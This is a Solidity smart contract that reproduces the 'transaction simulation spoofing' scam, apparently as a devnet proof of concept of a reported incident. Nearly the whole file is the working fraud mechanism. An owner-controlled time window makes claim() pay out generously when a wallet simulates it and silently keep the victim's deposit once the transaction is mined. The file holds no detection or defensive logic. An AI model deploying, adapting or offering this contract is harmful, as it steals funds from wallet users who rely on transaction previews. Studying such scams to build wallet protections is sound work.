// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// "Transaction simulation spoofing", modelled on the case ScamSniffer reported for January 2025 (a victim lost
/// 143.45 ETH): a "claim" that pays the caller back their deposit and a reward while the block is inside a window the
/// attacker controls (`openUntil`, a block timestamp), which is when the wallet simulates it, and keeps the deposit
/// once the window has closed, which is when the transaction is mined. Devnet only.
contract SimulationSpoof {
    address public immutable owner;
    uint256 public openUntil;

    constructor() payable {
        owner = msg.sender;
    }

    function setWindow(uint256 until) external {
        require(msg.sender == owner, "not owner");
        openUntil = until;
    }

    /// Pays back the deposit and 10 % more inside the window; keeps it after.
    function claim() external payable {
        if (block.timestamp <= openUntil) {
            (bool ok, ) = payable(msg.sender).call{value: msg.value + msg.value / 10}("");
            require(ok, "payout failed");
        }
    }

    receive() external payable {}
}
